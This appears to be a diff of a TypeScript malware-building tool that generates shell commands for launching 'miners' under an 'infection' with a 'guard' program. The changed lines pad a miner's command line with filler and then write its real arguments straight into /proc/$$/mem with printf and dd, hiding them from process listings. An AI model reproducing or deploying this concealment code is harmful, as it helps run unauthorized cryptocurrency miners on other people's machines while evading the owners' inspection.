@@ -62,16 +62,15 @@ exit; }
  */
 function showArguments(miner: Miner): string {
   if (miner.args.length === 0) return ':';
-  const bytes = miner.args.map((arg) => `${arg.replaceAll('\\', '\\\\').replaceAll('%', '%%')}\\0`).join('');
   return `fields=$(</proc/$$/stat); set -- \${fields##*) }
-printf ${quote(bytes)} | dd of=/proc/$$/mem bs=65536 oflag=seek_bytes seek=$((\${46} + ${miner.path.length + 1})) conv=notrunc`;
+printf '%s\\0' ${miner.args.map(quote).join(' ')} | dd of=/proc/$$/mem bs=65536 oflag=seek_bytes seek=$((\${46} + ${Buffer.byteLength(miner.path) + 1})) conv=notrunc`;
 }
 
 /** The words that start a miner: its path, and padding for its arguments. */
 export function minerCommand(miner: Miner): string {
   if (miner.args.length === 0) return quote(miner.path);
   const length = miner.args.reduce((sum, arg) => sum + Buffer.byteLength(arg) + 1, 0);
-  return `${quote(miner.path)} -s ${'-'.repeat(0)}${'x'.repeat(Math.max(1, length - 4))}`;
+  return `${quote(miner.path)} -s ${'x'.repeat(Math.max(1, length - 4))}`;
 }
 
 export function guardProgram(infection: Infection, guard: Guard): string {
